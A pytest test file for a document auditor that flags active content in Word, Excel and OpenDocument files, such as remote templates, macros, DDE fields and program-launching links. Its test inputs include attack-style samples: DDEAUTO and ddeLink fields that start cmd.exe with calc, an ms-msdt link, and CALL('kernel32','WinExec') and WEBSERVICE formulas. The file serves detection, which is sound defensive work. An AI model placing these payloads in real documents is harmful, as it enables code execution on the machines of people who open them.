"""Active content of Office files, and what only looks like it."""

from __future__ import annotations

import pytest

from auditor import limits
from auditor.active_content import active_content_of
from auditor.values.active import ActiveContent
from tests.attacks.archives import OFFICE, open_document, relations, word, workbook
from tests.auditor.loaders.docx_makers import field, para, run, xml

ADDRESS = "https://203.0.113.7/x"


def kinds(content: bytes, kind: str) -> list[str]:
    """Return the kinds of what is found."""
    return [active.kind for active in active_content_of(content, kind)]


def linked(kind: str, target: str, mode: str = "External", part: str = "word/document.xml") -> bytes:
    """Return a Word file one of whose parts has that link."""
    folder, _, name = part.rpartition("/")
    return word(parts={f"{folder}/_rels/{name}.rels": relations(("r1", kind, target, mode))})


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("attachedTemplate", "remote_template"),
        ("image", "remote_picture"),
        ("oleObject", "linked_object"),
        ("frame", "remote_content"),
        ("mailMergeSource", "mail_merge"),
        ("subDocument", "imported_text"),
        ("aFChunk", "imported_text"),
        ("somethingNew", "remote_content"),
    ],
)
def test_links_out_of_a_word_file(kind: str, expected: str) -> None:
    assert active_content_of(linked(kind, ADDRESS), "docx") == (ActiveContent(expected, "word/document.xml", ADDRESS),)


@pytest.mark.parametrize(
    ("kind", "target", "expected"),
    [
        ("vbaProject", "vbaProject.bin", "macros"),
        ("oleObject", "embeddings/oleObject1.bin", "embedded_object"),
        ("package", "embeddings/Book1.xlsx", "embedded_object"),
        ("control", "activeX/activeX1.xml", "activex"),
        ("aFChunk", "afchunk.htm", "imported_text"),
        ("webextension", "webextension1.xml", "add_in"),
    ],
)
def test_parts_that_run_or_bring_files(kind: str, target: str, expected: str) -> None:
    content = linked(kind, target, "Internal", "word/header1.xml")
    assert active_content_of(content, "docx") == (ActiveContent(expected, "word/header1.xml", target),)


@pytest.mark.parametrize("kind", ["image", "footer", "styles", "ctrlProp", "theme", "customXml"])
def test_ordinary_parts_are_none(kind: str) -> None:
    assert kinds(linked(kind, "some/part.xml", "Internal"), "docx") == []


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("https://example.gov/privacy", []),
        ("mailto:clerk@example.gov", []),
        ("TEL:555", []),
        ("#section", []),
        ("notes.docx", []),
        ("../a/b?c=d:e", []),
        ("C:\\forms\\a.docx", []),
        ("file:///S:/forms/a.docx", []),
        ("ms-msdt:/id PCWDiagnostic", ["program_link"]),
        (" JavaScript:alert(1)", ["program_link"]),
        ("search-ms:query=a", ["program_link"]),
    ],
)
def test_links_that_a_person_follows(target: str, expected: list[str]) -> None:
    assert kinds(linked("hyperlink", target), "docx") == expected


@pytest.mark.parametrize(
    ("instruction", "expected"),
    [
        ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', ["dde"]),
        (" dde Excel Sheet1 R1C1 ", ["dde"]),
        (f'INCLUDEPICTURE "{ADDRESS}" \\d', ["remote_picture"]),
        (f'INCLUDETEXT "{ADDRESS}"', ["imported_text"]),
        ('DATABASE \\c "DSN=x"', ["data_connection"]),
        ("LINK Excel.Sheet.8 C:\\\\a.xls", ["linked_object"]),
        ("MACROBUTTON SendHome Press", ["macros"]),
        ("MACROBUTTON  NoMacro Click here and type", []),
        ("PAGE", []),
        ("FORMTEXT", []),
        ("HYPERLINK &quot;https://example.gov&quot;", []),
        ("DDELIGHT", []),
    ],
)
def test_fields_of_a_word_file(instruction: str, expected: list[str]) -> None:
    assert kinds(word(para(field(instruction, "shown"))), "docx") == expected
    simple = f'<w:p><w:fldSimple w:instr="{instruction.replace(chr(34), "&quot;")}"/></w:p>'
    assert kinds(word(simple), "docx") == expected


def test_a_field_cut_into_runs_and_with_a_field_inside_is_put_together() -> None:
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    words = "<w:r><w:instrText>{}</w:instrText></w:r>".format
    inner = mark("begin") + words("PAGE") + mark("end")
    cut = mark("begin") + words("D") + words("DEAU") + inner + words("TO cmd.exe") + mark("separate") + mark("end")
    (found,) = active_content_of(word(para(cut)), "docx")
    assert (found.kind, found.where, found.target) == ("dde", "word/document.xml", "cmd.exe")


def test_a_field_that_never_ends_counts() -> None:
    assert kinds(
        word(para('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText></w:r>')), "docx"
    ) == ["dde"]


def test_words_of_the_form_are_no_field() -> None:
    assert kinds(word(para(run("DDEAUTO cmd.exe fldSimple instrText"))), "docx") == []


def test_strict_files_and_utf_16_parts_are_looked_through() -> None:
    listing = relations(("r1", "attachedTemplate", ADDRESS, "External"))
    strict = listing.replace("schemas.openxmlformats.org/officeDocument/2006", "purl.oclc.org/ooxml/officeDocument")
    for content in (strict.encode(), listing.encode("utf-16")):
        assert kinds(word(parts={"word/_rels/settings.xml.rels": content}), "docx") == ["remote_template"]
    body = xml("w:document", para(field("DDEAUTO a"))).replace("UTF-8", "UTF-16").encode("utf-16")
    assert kinds(word(parts={"word/document.xml": body}), "docx") == ["dde"]


@pytest.mark.parametrize(
    ("part", "content", "expected"),
    [
        (
            "xl/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            "dde",
        ),
        (
            "xl/externalLinks/externalLink1.xml",
            '<x:oleLink xmlns:x="x" r:id="r1" progId="Word.Document"/>',
            "linked_object",
        ),
        (
            "xl/connections.xml",
            f'<connections><connection><webPr url="{ADDRESS}"/></connection></connections>',
            "data_connection",
        ),
        ("xl/connections.xml", '<connections><dbPr connection="Provider=SQL"/></connections>', "data_connection"),
    ],
)
def test_parts_of_a_workbook(part: str, content: str, expected: str) -> None:
    assert kinds(workbook("", {part: content}), "xlsx") == [expected]


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        (f'WEBSERVICE("{ADDRESS}"&amp;A1)', ["remote_content"]),
        (f'_xlfn.IMAGE("{ADDRESS}")', ["remote_content"]),
        ('CALL("kernel32","WinExec")', ["macros"]),
        ("SUM(A1:A3)", []),
        ("RECALL(1)", []),
    ],
)
def test_formulas_that_fetch_or_run(formula: str, expected: list[str]) -> None:
    assert kinds(workbook(f"<sheetData><row><c><f>{formula}</f><v>1</v></c></row></sheetData>"), "xlsx") == expected


def test_words_of_a_cell_are_no_formula() -> None:
    assert kinds(workbook("<sheetData><row><c><is><t>WEBSERVICE(a)</t></is></c></row></sheetData>"), "xlsx") == []


def test_an_external_workbook() -> None:
    content = workbook(
        "",
        {"xl/externalLinks/_rels/externalLink1.xml.rels": relations(("r1", "externalLinkPath", "b.xlsx", "External"))},
    )
    assert active_content_of(content, "xlsx") == (
        ActiveContent("external_workbook", "xl/externalLinks/externalLink1.xml", "b.xlsx"),
    )


@pytest.mark.parametrize(
    ("rows", "parts", "expected"),
    [
        ('<draw:image xlink:href="https://203.0.113.7/a.png"/>', {}, ["remote_picture"]),
        ('<draw:image xlink:href="Pictures/a.png"/>', {}, []),
        ('<draw:object xlink:href="./Object 1"/>', {}, []),
        ('<table:table-source xlink:href="../b.ods"/>', {}, ["external_workbook"]),
        ('<office:dde-source office:dde-application="soffice"/>', {}, ["dde"]),
        ("", {"Basic/Standard/Module1.xml": "<x/>"}, ["macros"]),
        ("", {"Basic/script-lc.xml": "<x/>"}, []),
    ],
)
def test_open_document_sheets(rows: str, parts: dict[str, str | bytes], expected: list[str]) -> None:
    assert kinds(open_document(rows, parts), "ods") == expected


@pytest.mark.parametrize(
    ("kind", "content"), [("docx", word()), ("xlsx", workbook("")), ("ods", open_document("")), ("csv", b"a,b")]
)
def test_clean_forms_have_none(kind: str, content: bytes) -> None:
    assert active_content_of(content, kind) == ()


def test_a_target_is_safe_to_show() -> None:
    target = "https://ann:pw1@203.0.113.7/\u202e\n?ssn=123-45-6789&amp;token=abc&amp;" + "x" * 500
    (found,) = active_content_of(linked("image", target), "docx")
    assert found.target.startswith("https://•••@203.0.113.7/ ?ssn=•••-••-••••&token=•••&x")
    assert len(found.target) == limits.MAX_TARGET


def test_each_is_told_once_and_not_too_many(monkeypatch: pytest.MonkeyPatch) -> None:
    body = para(*(field("DDE a"), field("DDE a"), field("DDE b"), field("DDE c")))
    assert len(active_content_of(word(body), "docx")) == 3
    monkeypatch.setattr(limits, "MAX_ACTIVE", 2)
    assert len(active_content_of(word(body), "docx")) == 2


@pytest.mark.parametrize("kind", ["docx", "xlsx", "ods", "xls", "pdf"])
def test_damaged_files_end_quietly(kind: str) -> None:
    for content in (b"", b"PK\x03\x04 broken", b"%PDF-1.7 /JS", OFFICE["remote_template.docx"]()[:-40]):
        assert set(kinds(content, kind)) <= {"javascript"}


def test_a_kind_without_a_message_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown kind"):
        ActiveContent("virus", "here")
